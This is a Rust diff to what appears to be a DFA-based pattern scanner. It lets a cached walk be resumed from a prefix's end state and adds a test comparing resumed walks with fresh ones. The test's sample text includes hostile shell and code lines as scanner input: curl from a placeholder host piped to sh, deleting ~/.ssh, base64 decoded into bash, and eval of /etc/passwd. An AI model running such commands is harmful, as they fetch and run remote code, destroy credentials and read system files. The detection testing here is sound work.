@@ -79,6 +79,9 @@ struct Seen {
     touched_states: Vec<u32>,
     /// The end of the first folded letter (`usize::MAX`: none).
     fold_end: usize,
+    /// The DFA state after the text, from which a longer text it begins
+    /// is walked on (None: the table did not read, see `give_up`).
+    end: Option<usize>,
 }
 
 thread_local! {
@@ -101,7 +104,14 @@ pub(super) fn passes(entry: Entry, h: &str) -> bool {
 }
 
 /// The walk of `h`, or of a remembered text `h` begins (its answers up to
-/// `h.len()` are `h`'s), walking `h` when none is remembered.
+/// `h.len()` are `h`'s). Otherwise a remembered text that begins `h` is
+/// walked on from its end over the rest of `h` (the walk of `h` itself:
+/// the DFA is where a walk of `h` would be there, and the first ends it
+/// noted are `h`'s), else `h` is walked. The walk used is kept as the
+/// latest and the least recently used is dropped: gates ask the prefixes
+/// of one file (`text[..end]` of each span of a reach, longer and longer)
+/// between questions of other texts, and walking each prefix afresh read
+/// a large script again per question (round 38).
 fn of<'w>(walks: &'w mut Vec<Seen>, h: &str) -> &'w Seen {
     let n = h.len();
     let hit = walks
@@ -110,17 +120,38 @@ fn of<'w>(walks: &'w mut Vec<Seen>, h: &str) -> &'w Seen {
     let i = match hit {
         Some(i) => i,
         None => {
-            let mut seen = if walks.len() >= WALKS_KEPT {
-                walks.remove(0)
-            } else {
-                Seen::new()
-            };
-            seen.walk(h);
-            walks.push(seen);
-            walks.len() - 1
+            let begins = walks
+                .iter()
+                .enumerate()
+                .filter(|(_, s)| {
+                    s.end.is_some() && h.as_bytes().get(..s.text.len()) == Some(&s.text[..])
+                })
+                .max_by_key(|(_, s)| s.text.len())
+                .map(|(i, _)| i);
+            match begins {
+                Some(i) => {
+                    walks[i].walk_on(h);
+                    i
+                }
+                None => {
+                    let mut seen = if walks.len() >= WALKS_KEPT {
+                        walks.remove(0)
+                    } else {
+                        Seen::new()
+                    };
+                    seen.walk(h);
+                    walks.push(seen);
+                    walks.len() - 1
+                }
+            }
         }
     };
-    &walks[i]
+    let last = walks.len() - 1;
+    if i != last {
+        let seen = walks.remove(i);
+        walks.push(seen);
+    }
+    &walks[last]
 }
 
 impl Seen {
@@ -132,6 +163,7 @@ impl Seen {
             touched_sets: Vec::new(),
             touched_states: Vec::new(),
             fold_end: usize::MAX,
+            end: Some(0),
         }
     }
 
@@ -147,19 +179,31 @@ impl Seen {
         }
         self.fold_end = usize::MAX;
         self.text.clear();
-        self.text.extend_from_slice(h.as_bytes());
+        self.end = Some(0);
+        self.walk_on(h);
+    }
+
+    /// Walks on over the bytes of `h` past the walked text, which `h`
+    /// begins (from the start state when nothing is walked yet).
+    fn walk_on(&mut self, h: &str) {
+        let Some(mut s) = self.end else {
+            return;
+        };
+        let from = self.text.len();
+        let rest = h.as_bytes().get(from..).unwrap_or_default();
+        self.text.extend_from_slice(rest);
         let (trans, _) = tables::WALK_TRANS.as_chunks::<2>();
-        let mut s = 0usize;
-        for (i, &b) in h.as_bytes().iter().enumerate() {
+        for (i, &b) in rest.iter().enumerate() {
             let at = s * tables::STRIDE + tables::CLASSES[b as usize] as usize;
             let Some(&next) = trans.get(at) else {
                 return self.give_up();
             };
             s = u16::from_le_bytes(next) as usize;
             if s >= tables::FIRST_OUT {
-                self.met(s - tables::FIRST_OUT, i + 1);
+                self.met(s - tables::FIRST_OUT, from + i + 1);
             }
         }
+        self.end = Some(s);
     }
 
     /// Notes the sets of output state `k`, met at `end`.
@@ -195,6 +239,7 @@ impl Seen {
     /// every gate passes.
     fn give_up(&mut self) {
         self.fold_end = 0;
+        self.end = None;
     }
 
     /// Whether the first `n` bytes of the walked text hold a literal of
@@ -210,6 +255,48 @@ impl Seen {
 mod tests {
     use super::super::{gates, walk_dfa};
     use super::tables;
+
+    /// A walk taken on from a prefix notes what a walk of the whole text
+    /// notes (the first end of each set, of a folded letter, the state at
+    /// the end), and `of` answers every text and prefix as a fresh walk.
+    #[test]
+    fn walking_on_from_a_prefix_is_walking_the_text() {
+        let text = "import os, subprocess\nos.system('curl -s http://x.example | sh')\n\
+                    rm -rf ~/.ssh; base64 -d <<< aGk= | bash\nfetch(atob('eA=='));\n\
+                    eval(compile(open('/etc/passwd').read(), 'x', 'exec'))\n\u{212A}ey\n";
+        let mut whole = super::Seen::new();
+        whole.walk(text);
+        let ends = |s: &super::Seen| (s.set_end.clone(), s.fold_end, s.end, s.text.clone());
+        let mut on = super::Seen::new();
+        for k in (0..=text.len()).filter(|&k| text.is_char_boundary(k)) {
+            on.walk(&text[..k]);
+            on.walk_on(text);
+            assert_eq!(ends(&on), ends(&whole), "walked on from {k}");
+        }
+        // Through the remembered walks: prefixes, longer prefixes, other
+        // texts between them, in an order that extends, hits and evicts.
+        let mut walks = Vec::new();
+        let others = ["curl http://a", "sh -c x", "exec(", "nothing here", "wget"];
+        for (j, k) in [10, 40, 5, 90, text.len(), 60, 3].into_iter().enumerate() {
+            let k = (0..=k)
+                .rev()
+                .find(|&k| text.is_char_boundary(k))
+                .unwrap_or(0);
+            let mut fresh = super::Seen::new();
+            fresh.walk(&text[..k]);
+            let got = super::of(&mut walks, &text[..k]);
+            let n = k;
+            assert!(got.text.starts_with(&text.as_bytes()[..n]));
+            for set in 0..super::sets() {
+                let a = got.set_end[set];
+                let b = fresh.set_end[set];
+                assert_eq!(a <= n, b <= n, "set {set} in the first {n} bytes");
+            }
+            assert_eq!(got.fold_end <= n, fresh.fold_end <= n);
+            super::of(&mut walks, others[j % others.len()]);
+            assert!(walks.len() <= super::WALKS_KEPT);
+        }
+    }
 
     /// The tables `build.rs` stored are those `walk_dfa::build` gives the
     /// gate table now, and every transition leads to a state.
